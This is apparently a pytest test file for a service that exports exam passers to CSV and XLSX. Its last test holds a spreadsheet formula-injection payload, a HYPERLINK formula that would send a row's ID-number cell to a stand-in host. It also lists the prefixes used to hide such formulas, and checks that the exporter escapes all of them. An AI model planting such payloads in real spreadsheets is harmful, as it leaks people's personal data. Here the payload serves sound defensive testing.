"""The export's files on disk: the CSV with its BOM, the XLSX with text IDs, their parts.

Moved from the domain's tests when the file writing left `domain/export.py`; the
assertions are those the files always had to pass."""

from __future__ import annotations

import csv
import unicodedata

import pytest
from openpyxl import load_workbook

from chalicelib.domain import export as rules
from chalicelib.domain.periods import Period
from chalicelib.services.export_files import ExportFiles
from tests.support.export_data import id_number, id_number_ending_in_x
from tests.unit.test_export_rules import PERIOD, passer


def test_files_hold_the_same_rows_csv_with_bom_and_xlsx_with_text_ids(tmp_path) -> None:
    _, x_number = id_number_ending_in_x()
    people = [
        passer(),
        passer(name="=1+2", id_number=x_number, phone="13900000002", email="+x@example.com", score=60),
        passer(name="欧阳娜娜娜娜娜娜娜娜娜娜", email="a.really.long.address.for.width@example.com"),
    ]
    with ExportFiles(PERIOD, tmp_path, "passers") as files:
        for person in people:
            files.add(person)
        files.finish()
    assert files.count == 3

    raw = files.csv_path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    with files.csv_path.open(encoding="utf-8-sig", newline="") as stream:
        csv_rows = list(csv.reader(stream))
    assert csv_rows[0] == list(rules.COLUMNS)
    expected = [[str(cell) for cell in rules.row(PERIOD, person)] for person in people]
    assert csv_rows[1:] == expected
    assert csv_rows[2][1] == "'=1+2" and csv_rows[2][2] == x_number

    sheet = load_workbook(files.xlsx_path).worksheets[0]
    rows = list(sheet.iter_rows())
    assert [cell.value for cell in rows[0]] == list(rules.COLUMNS)
    assert all(cell.font.b for cell in rows[0])
    assert sheet.freeze_panes == "A2"
    for row, person in zip(rows[1:], people, strict=True):
        assert [cell.value for cell in row] == list(rules.row(PERIOD, person))
        id_cell, phone_cell, score_cell = row[2], row[3], row[5]
        assert id_cell.data_type == "s" and id_cell.number_format == "@"
        assert phone_cell.data_type == "s" and phone_cell.number_format == "@"
        assert score_cell.data_type == "n"
        assert all(cell.data_type != "f" for cell in row)
    assert rows[2][2].value.endswith("X")
    widths = {letter: sheet.column_dimensions[letter].width for letter in "ABCDEFGH"}
    assert widths["C"] >= 18 and widths["E"] >= len("a.really.long.address.for.width@example.com")
    assert widths["B"] >= rules.display_width("欧阳娜娜娜娜娜娜娜娜娜娜")


def test_xlsx_drops_characters_xml_cannot_hold(tmp_path) -> None:
    with ExportFiles(PERIOD, tmp_path, "passers") as files:
        files.add(passer(name="张\x01三"))
        files.finish()
    sheet = load_workbook(files.xlsx_path).worksheets[0]
    assert sheet["B2"].value == "张三"


def test_empty_export_has_only_the_header(tmp_path) -> None:
    with ExportFiles(PERIOD, tmp_path, "passers") as files:
        files.finish()
    assert files.count == 0
    assert files.csv_path.read_bytes() == "\ufeff".encode() + ",".join(rules.COLUMNS).encode() + b"\r\n"


@pytest.mark.parametrize(
    ("count", "parts", "sizes"), [(7, 3, [3, 3, 1]), (6, 2, [3, 3]), (2, 5, [1, 1]), (1, 2, [1])]
)
def test_split_keeps_every_row_in_order_over_parts_of_their_own(tmp_path, count, parts, sizes) -> None:
    people = [passer(name=f"考生{n}", id_number=id_number(n), phone=f"139{n:08d}") for n in range(count)]
    with ExportFiles(PERIOD, tmp_path, "passers") as files:
        for person in people:
            files.add(person)
        files.finish()

    pieces = files.split(parts)

    assert [piece.last - piece.first + 1 for piece in pieces] == sizes
    assert [piece.number for piece in pieces] == list(range(1, len(sizes) + 1))
    assert {piece.of for piece in pieces} == {len(sizes)}
    csv_rows: list[list[str]] = []
    xlsx_rows: list[list[object]] = []
    for piece in pieces:
        assert piece.csv_path.read_bytes().startswith(b"\xef\xbb\xbf")
        with piece.csv_path.open(encoding="utf-8-sig", newline="") as stream:
            header, *rows = list(csv.reader(stream))
        assert header == list(rules.COLUMNS) and len(rows) == piece.last - piece.first + 1
        csv_rows += rows
        header_cells, *cells = list(load_workbook(piece.xlsx_path).worksheets[0].iter_rows())
        assert [cell.value for cell in header_cells] == list(rules.COLUMNS)
        assert all(row[2].data_type == "s" and row[2].number_format == "@" for row in cells)
        xlsx_rows += [[cell.value for cell in row] for row in cells]
    assert csv_rows == [[str(cell) for cell in rules.row(PERIOD, person)] for person in people]
    assert xlsx_rows == [list(rules.row(PERIOD, person)) for person in people]
    # The whole files stay as they were, beside the parts.
    with files.csv_path.open(encoding="utf-8-sig", newline="") as stream:
        assert len(list(csv.reader(stream))) == count + 1


# Everything a formula can hide behind, and every operator a spreadsheet runs.
HIDING_PREFIXES = (
    *("", " ", "\u3000", "\t", "\r", "\n"),
    *("\x01", "\x0b", "\x1f", "\x7f"),
    *("\u200b", "\u200f", "\u202e", "\ufeff", " \x01\u200b"),
)
OPERATORS = ("=", "+", "-", "@", "＝", "＋", "－", "＠")


@pytest.mark.parametrize("operator", OPERATORS)
@pytest.mark.parametrize("prefix", HIDING_PREFIXES, ids=repr)
def test_xlsx_holds_no_formula_behind_any_prefix(tmp_path, prefix: str, operator: str) -> None:
    hostile = f'{prefix}{operator}HYPERLINK("http://x.example/?"&C2,"点击")'
    period = Period(**{**PERIOD.__dict__, "name": hostile})
    with ExportFiles(period, tmp_path, "passers") as files:
        files.add(passer(name=hostile, email=f"{prefix}{operator}x@example.com"))
        files.finish()
    sheet = load_workbook(files.xlsx_path).worksheets[0]
    cells = next(iter(sheet.iter_rows(min_row=2)))
    assert all(cell.data_type != "f" for cell in cells)
    for index in (0, 1, 4):
        value = cells[index].value
        assert isinstance(value, str) and value.startswith("'"), (index, value)
        assert not any(unicodedata.category(ch) == "Cc" and ch not in "\t\n\r" for ch in value)
    with files.csv_path.open(encoding="utf-8-sig", newline="") as stream:
        csv_row = list(csv.reader(stream))[1]
    assert all(csv_row[index].startswith("'") for index in (0, 1, 4))
